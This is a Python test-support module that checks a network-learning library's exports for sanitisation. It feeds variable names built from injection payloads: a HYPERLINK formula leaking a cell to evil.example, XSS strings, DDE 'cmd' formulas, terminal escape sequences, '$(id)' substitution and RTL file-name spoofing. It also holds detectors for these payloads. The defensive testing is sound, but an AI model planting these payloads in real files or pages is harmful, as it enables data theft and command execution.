"""Names and states that try to break out of whatever they are written into, and what that must not do."""

from __future__ import annotations

import csv
import io
import re
from itertools import pairwise

import numpy as np

import chordlearn as cl

MARK = "INJECTED"
"""What begins a line of its own only if the end of a line inside a name was taken for one."""
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "<script>steal()</script>",
    '"><img src=x onerror=steal()>',
    "javascript:steal()",
    "</title></style></textarea></script><svg onload=steal()>",
    "[red]x[/red] [link=file:///etc/passwd]y[/link] [/bold",
    "a\u202egpj.exe\u2066\u200b",
    "back\\slash \"quotes' `id` $(id) ; | & %* #script(lua) *% ]]> -->",
    "{{facts}} {0} {name!r} %s %(x)s $x^2$ \\frac{",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a-very-long.name_" * 200,
    "--help",
)
"""Names and states of tables; every reader of tables refuses those with control characters."""
CONTROLS = (
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    f"x\n{MARK} 0",
    f"x\r\n{MARK}",
    f"x\r{MARK}",
    "\x1b[2J\x1b[31mred",
    "\x9b31m\x84\x85",
    "nul\x00byte",
    f"x\u2028{MARK}\u2029",
    "tab\tin\x0bside\x0c",
    "\x07\x08\x08\x08bell",
    "+1+cmd|' /C calc'!A0",
    "</script><!--<script>steal()//",
)
"""What only a network file can hold."""
FORMULA_STARTS = tuple("=+-@\t\r\n＝＋－＠")
HIDDEN_BUT_LINES = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]"
)


def columns(rows: int = 300) -> dict[str, list[str]]:
    """A table in which each variable depends on the one before it."""
    chance = np.random.default_rng(3)
    values = chance.integers(0, 2, rows)
    table = {}
    for i, name in enumerate(NAMES):
        values = np.where(chance.random(rows) < 0.8, values, chance.integers(0, 2, rows))
        states = (NAMES[i - 1], NAMES[i - 2])
        table[name] = [states[value] for value in values]
    return table


def made_network() -> cl.FittedNetwork:
    """A network that was made and not read: its names and states also hold control characters."""
    names = [*NAMES, *CONTROLS]
    states = [(names[i - 1], names[i - 2], names[i - 3]) for i in range(len(names))]
    structure = cl.ChordalNetwork.from_edges(names, pairwise(names), states)
    joint = np.full((3, 3), 1 / 9)
    return cl.FittedNetwork(structure, tuple(joint for _ in structure.cliques))


def assert_tame(text: str) -> None:
    """No character that a terminal or a reader of the file would obey, and no line that a name began."""
    hidden = HIDDEN_BUT_LINES.search(text)
    assert hidden is None, (hidden[0], text[max(hidden.start() - 60, 0) : hidden.end() + 20])
    assert not any(line.lstrip().startswith(MARK) for line in text.split("\n"))


def assert_no_formulas(text: str, delimiter: str = ",") -> None:
    """No cell that a spreadsheet computes."""
    number = re.compile(r"[+\-][0-9.,eE+\-]*")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or number.fullmatch(cell), cell
